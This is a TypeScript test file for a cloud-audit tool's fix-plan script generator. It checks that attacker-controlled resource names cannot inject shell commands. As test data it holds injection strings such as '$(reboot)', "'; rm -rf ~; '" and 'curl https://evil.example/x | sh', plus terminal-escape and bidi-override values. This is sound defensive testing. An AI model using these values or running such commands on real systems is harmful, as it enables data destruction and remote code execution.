// The fix plan is a shell script built from hostile data. Besides what it says, these tests check
// what it does: `sh -n` parses it, and it runs for real against stub `aws`, `az` and `gcloud`
// that log their argument vectors, with trap stubs for the commands an injection would call.
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { fillCommand, type Placeholders, type Severity } from '../../../src/checks/define-check.js';
import type { ProviderId } from '../../../src/model.js';
import type { Finding, FindingStatus, Report } from '../../../src/report.js';
import { commandShape, judgeCommand, renderFixPlan, REVIEW_VARIABLE } from '../../../reports/fix-plan.js';

const ESC = '\u001b';
const work = mkdtempSync(join(tmpdir(), 'snapaudit-fix-plan-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const MARKER = join(work, 'injected');
/** Values an audited account could name its resources, each of which must reach the CLI as one literal word. */
const HOSTILE_WORDS = [
  '$(reboot)',
  '`reboot`',
  "'; rm -rf ~; '",
  `x; touch ${MARKER}`,
  `"$(touch ${MARKER})"`,
  '$HOME && rm -rf ~ | sh &',
  '* ? [a] ~ # {a,b}',
  "it's \\ a \"name\"",
  '-- --region eu-west-1',
];
/** Values that cannot be written on one line as they are: the command is shown commented out instead. */
const HOSTILE_LINES = [`snap-1\n rm -rf ~`, `snap-2\r${ESC}[2K${ESC}]0;pwned\u0007`, 'snap-3\u2028touch x', 'snap-4\u202egnp.exe'];

let counter = 0;

interface FindingInput {
  readonly provider?: ProviderId;
  readonly account?: string;
  readonly checkId?: string;
  readonly severity?: Severity;
  readonly status?: FindingStatus;
  readonly score?: number;
  readonly id?: string;
  readonly name?: string;
  readonly message?: string;
  readonly command?: string;
  readonly template?: string;
  readonly data?: Placeholders;
}

function finding(input: FindingInput = {}): Finding {
  counter += 1;
  const provider = input.provider ?? 'aws';
  const id = input.id ?? `snap-${counter}`;
  const data: Placeholders = { region: 'us-east-1', id, ...input.data };
  const template = input.template ?? 'aws ec2 modify-snapshot-attribute --region {{region}} --snapshot-id {{id}} --attribute createVolumePermission --operation-type remove --group-names all';
  return {
    id: `f${String(counter).padStart(19, '0')}`,
    checkId: input.checkId ?? 'aws-ebs-snapshot-public',
    title: 'Snapshot is public',
    severity: input.severity ?? 'critical',
    status: input.status ?? 'fail',
    score: input.score ?? 90,
    reasons: [],
    resource: { provider, account: input.account ?? '111122223333', region: 'us-east-1', type: 'AWS::EC2::Snapshot', id, ...(input.name ? { name: input.name } : {}) },
    message: input.message ?? `Snapshot ${id} can be restored by any AWS account.`,
    evidence: {},
    techniques: [],
    mitigations: [],
    compliance: [],
    remediation: { text: 'Remove the public permission.', command: input.command ?? fillCommand(template, data) },
  };
}

function report(findings: readonly Finding[], accounts: ReadonlyArray<{ provider: ProviderId; id: string; name?: string; unreachable?: string }> = []): Report {
  const scoped = accounts.length > 0 ? accounts : [{ provider: 'aws' as const, id: '111122223333' }];
  return {
    tool: { name: 'snapaudit', version: '9.9.9' },
    generatedAt: '2026-11-27T12:00:00.000Z',
    scope: { providers: [...new Set(scoped.map((a) => a.provider))], accounts: scoped.map((a) => ({ ...a, regions: ['us-east-1'] })) },
    summary: {
      bySeverity: { critical: 0, high: 0, medium: 0, low: 0, info: 0 },
      byStatus: { fail: 0, unknown: 0, suppressed: 0 },
      byProvider: {},
      byAccount: scoped.map((a) => ({ provider: a.provider, account: a.id, findings: 0, unreachable: a.unreachable !== undefined })),
      resources: { snapshots: 0, images: 0, disks: 0, instances: 0, dbSnapshots: 0, databases: 0, backupVaults: 0, galleries: 0 },
      checks: { run: 1, passed: 0, failedToRun: [] },
      incomplete: false,
      posture: [],
    },
    findings,
    coverage: [],
  };
}

/** Stub CLIs that log `argc, program, args…` NUL-separated; trap stubs for what an injection would run. */
function stubDir(): { dir: string; log: string } {
  const dir = mkdtempSync(join(work, 'bin-'));
  const log = join(dir, 'argv.log');
  for (const program of ['aws', 'az', 'gcloud']) {
    writeFileSync(join(dir, program), `#!/bin/sh\nprintf '%s\\0' "$#" "\${0##*/}" "$@" >> '${log}'\n`);
    chmodSync(join(dir, program), 0o755);
  }
  for (const trap of ['reboot', 'rm', 'touch', 'sh', 'curl', 'id']) {
    writeFileSync(join(dir, trap), `#!/bin/sh\nprintf '%s\\n' "\${0##*/} $*" >> '${MARKER}'\n`);
    chmodSync(join(dir, trap), 0o755);
  }
  return { dir, log };
}

function readArgv(log: string): string[][] {
  if (!existsSync(log)) return [];
  const fields = readFileSync(log, 'utf8').split('\0');
  const calls: string[][] = [];
  let i = 0;
  while (i < fields.length - 1) {
    const argc = Number(fields[i]);
    calls.push(fields.slice(i + 1, i + 2 + argc));
    i += 2 + argc;
  }
  return calls;
}

function runPlan(script: string, env: Record<string, string> = {}, shell = '/bin/sh'): { status: number | null; stderr: string; calls: string[][] } {
  const { dir, log } = stubDir();
  const file = join(dir, 'fix-plan.sh');
  writeFileSync(file, script);
  rmSync(MARKER, { force: true });
  // PATH holds only the stubs: anything else the script tried to run would be a trap or not found.
  const run = spawnSync(shell, [file], { env: { PATH: dir, HOME: join(work, 'home'), ...env }, cwd: dir, encoding: 'utf8' });
  return { status: run.status, stderr: run.stderr, calls: readArgv(log) };
}

function syntaxCheck(script: string): void {
  const file = join(work, `syntax-${(counter += 1)}.sh`);
  writeFileSync(file, script);
  const run = spawnSync('/bin/sh', ['-n', file], { encoding: 'utf8' });
  expect(run.stderr).toBe('');
  expect(run.status).toBe(0);
}

/** The lines that run: neither comments nor blank. */
const liveLines = (script: string): string[] => script.split('\n').filter((l) => l.trim() !== '' && !l.startsWith('#'));

/** Lines the plan itself writes; every other live line must be a checked command. */
const STRUCTURE = [
  /^set -eu$/,
  /^if \[ "\$\{SNAPAUDIT_FIX_PLAN_REVIEWED:-\}" != yes \]; then$/,
  /^ {2}echo '[^']*' >&2$/,
  /^ {2}exit 2$/,
  /^fi$/,
  /^echo '[^'$`\\]*' >&2$/,
];

describe('commandShape', () => {
  it.each([
    ['bare words', 'aws ec2 enable-ebs-encryption-by-default --region us-east-1'],
    ['single-quoted words', `aws ec2 x --name 'a b; c | d & e $(f) \`g\`'`],
    ['the quote escape shellQuote writes', `az disk update --name 'it'\\''s'`],
    ['a double-quoted word with nothing to expand', 'aws ec2 modify-image-attribute --launch-permission "Remove=[{Group=all}]"'],
    ['gcloud', 'gcloud compute snapshots remove-iam-policy-binding s --project=p --member=allUsers --role=roles/x'],
  ])('accepts %s', (_name, command) => {
    const shape = commandShape(command);
    expect(shape).toEqual({ ok: true, lines: [command], redirects: [] });
  });

  it('splits commands joined by && into lines, and names files written by >', () => {
    expect(commandShape('gcloud projects get-iam-policy p --format=yaml > policy.yaml && gcloud projects set-iam-policy p policy.yaml')).toEqual({
      ok: true,
      lines: ['gcloud projects get-iam-policy p --format=yaml > policy.yaml', 'gcloud projects set-iam-policy p policy.yaml'],
      redirects: ['policy.yaml'],
    });
  });

  it.each([
    ['a ;', 'aws ec2 x; rm -rf ~', 'an unquoted ;'],
    ['a |', 'aws ec2 x | sh', 'an unquoted |'],
    ['a lone &', 'aws ec2 x & rm -rf ~', 'an unquoted &'],
    ['a backtick', 'aws ec2 x `reboot`', 'an unquoted `'],
    ['$(', 'aws ec2 x $(reboot)', 'an unquoted $'],
    ['a variable', 'aws ec2 x $HOME', 'an unquoted $'],
    ['a line break', "aws ec2 x 'a\nb'", 'U+000A'],
    ['a terminal escape', `aws ec2 x '${ESC}[2J'`, 'U+001B'],
    ['a bidi override', "aws ec2 x 'a\u202eb'", 'U+202E'],
    ['a glob', 'aws ec2 x *', 'an unquoted *'],
    ['a tilde', 'aws ec2 x ~', 'an unquoted ~'],
    ['a comment sign', 'aws ec2 x #y', 'an unquoted #'],
    ['$ in double quotes', 'aws ec2 x "$(reboot)"', 'double-quoted'],
    ['an open quote', "aws ec2 x 'a", 'not closed'],
    ['another program', 'curl https://evil.example', 'something other than'],
    ['another program after &&', 'aws ec2 x && rm -rf /tmp/x', 'something other than'],
    ['a redirect out of the working directory', 'aws ec2 x > /etc/passwd', 'redirect'],
    ['a backslash escape', 'aws ec2 x \\;', 'backslash'],
  ])('rejects %s', (_name, command, reason) => {
    const shape = commandShape(command);
    expect(shape.ok).toBe(false);
    expect(shape.ok ? '' : shape.reason).toContain(reason);
  });

  it('accepts every value shellQuote quotes, hostile or not', () => {
    for (const value of HOSTILE_WORDS) expect(commandShape(fillCommand('aws ec2 x --id {{v}}', { v: value })).ok).toBe(true);
  });
});

describe('judgeCommand', () => {
  it('runs a complete command as it is', () => {
    expect(judgeCommand('aws ec2 enable-ebs-encryption-by-default --region us-east-1')).toEqual({
      runnable: true,
      lines: ['aws ec2 enable-ebs-encryption-by-default --region us-east-1'],
      notes: [],
    });
  });

  it.each([
    ['alias/YOUR-KEY', 'aws ec2 copy-snapshot --kms-key-id alias/YOUR-KEY', 'replace YOUR-KEY with the KMS key'],
    ['YOUR-RG', 'az monitor x --workspace /subscriptions/s/resourceGroups/YOUR-RG/w', 'replace YOUR-RG with'],
    ['SECURITY-GROUP-ID', 'aws ec2 revoke-security-group-ingress --group-id SECURITY-GROUP-ID', 'replace SECURITY-GROUP-ID with'],
    ['ROLE', 'gcloud projects remove-iam-policy-binding p --member=user:a --role=ROLE', 'replace ROLE with the role'],
    ['EXPORT_TASK_ID', 'aws ec2 cancel-export-task --export-task-id EXPORT_TASK_ID', 'replace EXPORT_TASK_ID with'],
    ['CODE1', 'aws iam enable-mfa-device --authentication-code1 CODE1', 'replace CODE1 with'],
    ['a placeholder left unfilled', 'aws ec2 x --id {{id}}', 'fill in {{id}}'],
    ['a file to prepare', 'aws backup put-backup-vault-access-policy --policy file://vault.json', 'prepare the file vault.json'],
    ['a file to edit between two commands', 'gcloud projects get-iam-policy p > policy.yaml && gcloud projects set-iam-policy p policy.yaml', 'a command writes policy.yaml'],
    ['a command that only reads', 'aws iam get-account-summary --region us-east-1', 'only reads'],
    ['no command', '', 'no command'],
    ['a command outside the shape', 'aws ec2 x; rm -rf ~', 'WARNING'],
  ])('comments out %s, saying why', (_name, command, note) => {
    const verdict = judgeCommand(command);
    expect(verdict.runnable).toBe(false);
    expect(verdict.notes.join('\n')).toContain(note);
    expect(verdict.unsafe).toBe(note === 'WARNING' ? true : undefined);
  });

  it('leaves words that only look like stand-ins alone', () => {
    for (const command of ['aws iam detach-role-policy --role-name ROLES', 'aws kms x --key-id MY-KEY', 'aws iam x --user-name key-rotation', 'aws iam x --access-key-id AKIAQX4SVCBACKUP0001']) {
      expect(judgeCommand(command).runnable).toBe(true);
    }
  });

  it('catches a value substituted inside a double-quoted word, where single quotes do not protect it', () => {
    const template = 'aws ec2 copy-snapshot --region {{region}} --source-snapshot-id {{id}} --description "encrypted copy of {{id}}"';
    expect(judgeCommand(fillCommand(template, { region: 'us-east-1', id: 'snap-1' })).runnable).toBe(true);
    for (const id of ['$(reboot)', '`reboot`', 'a"; reboot; "b']) {
      const verdict = judgeCommand(fillCommand(template, { region: 'us-east-1', id }));
      expect(verdict).toMatchObject({ runnable: false, unsafe: true });
    }
  });

  it('warns only about the placeholder, not the shape, when {{…}} is all that is wrong', () => {
    const verdict = judgeCommand('aws ec2 x --id {{id}}');
    expect(verdict.notes).toEqual(['fill in {{id}}: the scan found no value for it']);
  });
});

describe('fix plan', () => {
  it('starts with what it is, where it came from and the review guard', () => {
    const text = renderFixPlan(report([finding()], [{ provider: 'aws', id: '111122223333', name: 'acme-management' }]));
    const lines = text.split('\n');
    expect(lines[0]).toBe('#!/bin/sh');
    expect(text).toContain('# From the scan by snapaudit 9.9.9 at 2026-11-27T12:00:00.000Z, of:\n#   aws 111122223333 (acme-management)\n');
    expect(text).toContain('snapaudit did not run any of this');
    expect(text).toContain(`# When you have reviewed it: ${REVIEW_VARIABLE}=yes sh <this file>`);
    expect(lines.indexOf('set -eu')).toBeLessThan(lines.findIndex((l) => l.startsWith('if [')));
    expect(lines.findIndex((l) => l.startsWith('if ['))).toBeLessThan(lines.findIndex((l) => l.startsWith('aws ')));
    syntaxCheck(text);
  });

  it('refuses to run without the review variable, having run nothing', () => {
    const script = renderFixPlan(report([finding(), finding()]));
    const unreviewed: Array<Record<string, string>> = [{}, { [REVIEW_VARIABLE]: '' }, { [REVIEW_VARIABLE]: 'no' }, { [REVIEW_VARIABLE]: 'YES' }];
    for (const env of unreviewed) {
      const run = runPlan(script, env);
      expect(run.status).toBe(2);
      expect(run.stderr).toContain(`run it with ${REVIEW_VARIABLE}=yes`);
      expect(run.calls).toEqual([]);
    }
  });

  it('runs one block per command, most urgent first, each naming the findings it closes', () => {
    const a = finding({ id: 'snap-a', score: 100 });
    const b = finding({ id: 'snap-b', score: 80, checkId: 'aws-ebs-block-public-access-off', severity: 'high', template: 'aws ec2 enable-snapshot-block-public-access --region {{region}} --state block-all-sharing' });
    const text = renderFixPlan(report([a, b]));
    expect(text).toContain(`# [1] aws-ebs-snapshot-public · critical · score 100 · finding ${a.id}\n#     AWS::EC2::Snapshot snap-a in us-east-1\n#     Snapshot snap-a can be restored by any AWS account.\n`);
    expect(text.indexOf('[1] aws-ebs-snapshot-public')).toBeLessThan(text.indexOf('[2] aws-ebs-block-public-access-off'));
    const run = runPlan(text, { [REVIEW_VARIABLE]: 'yes' });
    expect(run.status).toBe(0);
    expect(run.calls).toEqual([
      ['aws', 'ec2', 'modify-snapshot-attribute', '--region', 'us-east-1', '--snapshot-id', 'snap-a', '--attribute', 'createVolumePermission', '--operation-type', 'remove', '--group-names', 'all'],
      ['aws', 'ec2', 'enable-snapshot-block-public-access', '--region', 'us-east-1', '--state', 'block-all-sharing'],
    ]);
  });

  it('gives one command closing two findings once, naming both; the same command in two accounts stays two', () => {
    const template = 'aws ec2 enable-ebs-encryption-by-default --region {{region}}';
    const first = finding({ template, score: 60, checkId: 'aws-ebs-encryption-default-off' });
    const chain = finding({ template, score: 50, checkId: 'chain-aws-x' });
    const other = finding({ template, score: 40, account: '444455556666', checkId: 'aws-ebs-encryption-default-off' });
    const text = renderFixPlan(report([first, chain, other], [{ provider: 'aws', id: '111122223333' }, { provider: 'aws', id: '444455556666' }]));
    expect(text.split('\n').filter((l) => l === 'aws ec2 enable-ebs-encryption-by-default --region us-east-1')).toHaveLength(2);
    expect(text).toContain(`# [1] aws-ebs-encryption-default-off · critical · score 60 · finding ${first.id}`);
    expect(text).toContain(`#     and chain-aws-x · critical · score 50 · finding ${chain.id}`);
    expect(text).toContain(`# [2] aws-ebs-encryption-default-off · critical · score 40 · finding ${other.id}`);
    expect(text.indexOf('# ==== aws 111122223333 ====')).toBeLessThan(text.indexOf('# ==== aws 444455556666 ===='));
    expect(text).toContain('# export AWS_PROFILE=PROFILE-FOR-444455556666');
  });

  it('keeps findings without a command apart, each saying there is none', () => {
    const text = renderFixPlan(report([finding({ command: '' }), finding({ command: '' })]));
    expect(text.match(/# {3}- the check gives no command for this: do it by hand/g)).toHaveLength(2);
    expect(text).toContain('# [2] ');
  });

  it('orders accounts by their most urgent finding and gives each its credential hint', () => {
    const accounts = [
      { provider: 'aws' as const, id: '111122223333' },
      { provider: 'azure' as const, id: '5ab5c41b-0000-4000-8000-000000000001', name: 'contoso-prod' },
      { provider: 'gcp' as const, id: 'acme-prod' },
    ];
    const text = renderFixPlan(
      report(
        [
          finding({ provider: 'gcp', account: 'acme-prod', score: 95, template: 'gcloud compute firewall-rules update {{id}} --project={{project}} --disabled', data: { project: 'acme-prod' } }),
          finding({ provider: 'azure', account: accounts[1]!.id, score: 90, template: 'az disk revoke-access --resource-group {{rg}} --name {{id}}', data: { rg: 'prod-rg' } }),
        ],
        accounts,
      ),
    );
    const order = ['# ==== gcp acme-prod ====', '# ==== azure 5ab5c41b-0000-4000-8000-000000000001 (contoso-prod) ====', '# ==== aws 111122223333 ===='].map((h) => text.indexOf(h));
    expect(order.every((i) => i >= 0)).toBe(true);
    expect(order).toEqual([...order].sort((x, y) => x - y));
    expect(text).toContain('# az account set --subscription 5ab5c41b-0000-4000-8000-000000000001');
    expect(text).toContain('# gcloud config set project acme-prod');
    expect(text).toContain('# ==== aws 111122223333 ====\n# No failing finding here: nothing to run.');
  });

  it('says when the scan was incomplete, and gives an unreachable account no command', () => {
    const base = report([finding()], [{ provider: 'aws', id: '111122223333' }, { provider: 'aws', id: '555566667777', unreachable: 'AccessDenied' }]);
    const text = renderFixPlan({ ...base, summary: { ...base.summary, incomplete: true } });
    expect(text).toContain('# The scan was incomplete (some reads failed): there may be exposures this plan does not fix.');
    expect(text).toContain('#   aws 555566667777: could not be read\n');
    expect(text).toContain('# ==== aws 555566667777 ====\n# Nothing could be read here (AccessDenied): give the auditor read access and scan again.\n');
  });

  it('lists unknown and suppressed findings as comments only, and says why there is no command', () => {
    const unknown = finding({ status: 'unknown', id: 'snap-unknown', message: 'Sharing of snap-unknown could not be read.' });
    const suppressed = finding({ status: 'suppressed', id: 'snap-accepted' });
    const text = renderFixPlan(report([unknown, suppressed]));
    expect(text).toContain('# Not verified (a read failed): no command is given. Verify these first, then scan again.\n# - aws-ebs-snapshot-public');
    expect(text).toContain('Sharing of snap-unknown could not be read.');
    expect(text).toContain('# Suppressed (accepted in the config): no command is given.\n# - aws-ebs-snapshot-public');
    expect(liveLines(text).filter((l) => !STRUCTURE.some((s) => s.test(l)))).toEqual([]);
    expect(runPlan(text, { [REVIEW_VARIABLE]: 'yes' }).calls).toEqual([]);
  });

  it('comments out a command with a stand-in or placeholder and says what to fill in', () => {
    const text = renderFixPlan(
      report([
        finding({ template: 'aws ec2 copy-snapshot --region {{region}} --source-snapshot-id {{id}} --encrypted --kms-key-id alias/YOUR-KEY', id: 'snap-key' }),
        finding({ template: 'aws ec2 x --region {{region}} --group-id {{group}}', id: 'snap-group' }),
      ]),
    );
    expect(text).toContain('#   - replace YOUR-KEY with the KMS key (alias or ARN) to encrypt the copy with\n');
    expect(text).toContain('# Then uncomment:\n# aws ec2 copy-snapshot --region us-east-1 --source-snapshot-id snap-key --encrypted --kms-key-id alias/YOUR-KEY\n');
    expect(text).toContain('#   - fill in {{group}}: the scan found no value for it');
    expect(text).toContain('# aws ec2 x --region us-east-1 --group-id {{group}}\n');
    expect(liveLines(text).some((l) => l.startsWith('aws '))).toBe(false);
    syntaxCheck(text);
  });

  describe('with hostile data', () => {
    const wordFindings = HOSTILE_WORDS.map((value, i) =>
      finding({
        id: value,
        name: `${value}\n rm -rf ~`,
        message: `Snapshot ${value} is public\n$(reboot)\r${ESC}[2K`,
        score: 100 - i,
        template: 'aws ec2 modify-snapshot-attribute --region {{region}} --snapshot-id {{id}} --user-ids {{accounts}}',
        data: { accounts: [value, '999988887777'] },
      }),
    );
    const lineFindings = HOSTILE_LINES.map((value) => finding({ id: value, name: value, message: value, score: 50, template: 'az snapshot revoke-access --resource-group {{rg}} --name {{id}}', data: { rg: value } }));
    const forged = [
      finding({ score: 40, command: 'aws ec2 describe-x; touch /tmp/pwned' }),
      finding({ score: 39, command: 'aws ec2 x --id $(reboot)' }),
      finding({ score: 38, command: 'curl https://evil.example/x | sh' }),
      finding({ score: 37, command: 'aws ec2 x\nrm -rf ~' }),
      finding({ score: 36, command: 'aws ec2 copy-snapshot --description "copy of $(reboot)"' }),
    ];
    const hostileAccount = { provider: 'azure' as const, id: `sub'; reboot; '\n$(reboot)`, name: `evil${ESC}]0;title\u0007\nreboot` };
    const text = renderFixPlan(report([...wordFindings, ...lineFindings, ...forged, finding({ provider: 'azure', account: hostileAccount.id, score: 10, template: 'az disk revoke-access --name {{id}}', id: 'd1' })], [{ provider: 'aws', id: '111122223333' }, hostileAccount]));

    it('is a script sh can parse', () => {
      syntaxCheck(text);
    });

    it('keeps every hostile text inside one comment line', () => {
      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
      for (const line of text.split('\n')) {
        if (line.includes('rm -rf ~') && !line.startsWith('#')) expect(line).toMatch(/^aws ec2 modify-snapshot-attribute .*'/);
      }
      expect(text).toContain("#     AWS::EC2::Snapshot '; rm -rf ~; ' ('; rm -rf ~; ' rm -rf ~) in us-east-1");
      expect(text).toContain('#     Snapshot $(reboot) is public$(reboot)[2K');
    });

    it('runs only checked commands outside comments', () => {
      const unexpected = liveLines(text).filter((l) => !STRUCTURE.some((s) => s.test(l)) && !commandShape(l).ok);
      expect(unexpected).toEqual([]);
      for (const line of liveLines(text)) expect(line).toMatch(/^(aws|az|gcloud) |^(set|if|fi|echo| {2})/);
    });

    it('comments out forged commands with a warning', () => {
      const warnings = text.split('\n').filter((l) => l.startsWith('#   - WARNING: this command is not in the shape the plan runs'));
      expect(warnings).toHaveLength(forged.length + lineFindings.length);
      expect(text).toContain('# The command as the check gave it (do not uncomment it; check every word first):\n# aws ec2 describe-x; touch /tmp/pwned\n');
      expect(text).toContain('# aws ec2 xrm -rf ~');
    });

    // Reviewers run it with whatever shell is at hand; bash expands more than dash does.
    it.each(['/bin/sh', '/bin/bash'])('hands each hostile value to the CLI as one literal argument, and runs nothing else (%s)', (shell) => {
      const run = runPlan(text, { [REVIEW_VARIABLE]: 'yes' }, shell);
      expect(run.stderr).not.toContain('not found');
      expect(run.status).toBe(0);
      expect(existsSync(MARKER)).toBe(false);
      expect(run.calls).toEqual([
        ...HOSTILE_WORDS.map((value) => ['aws', 'ec2', 'modify-snapshot-attribute', '--region', 'us-east-1', '--snapshot-id', value, '--user-ids', value, '999988887777']),
        ['az', 'disk', 'revoke-access', '--name', 'd1'],
      ]);
    });

    it('quotes the hostile subscription in the hint a reviewer might uncomment', () => {
      expect(text).toContain(`# az account set --subscription 'sub'\\''; reboot; '\\''$(reboot)'`);
      expect(text).toContain('# ==== azure sub\'; reboot; \'$(reboot) (evil]0;titlereboot) ====');
      const aws = renderFixPlan(report([finding({ account: '1111$(reboot)' })], [{ provider: 'aws', id: '1111$(reboot)' }]));
      expect(aws).toContain("# export AWS_PROFILE='PROFILE-FOR-1111$(reboot)'\n");
    });
  });
});
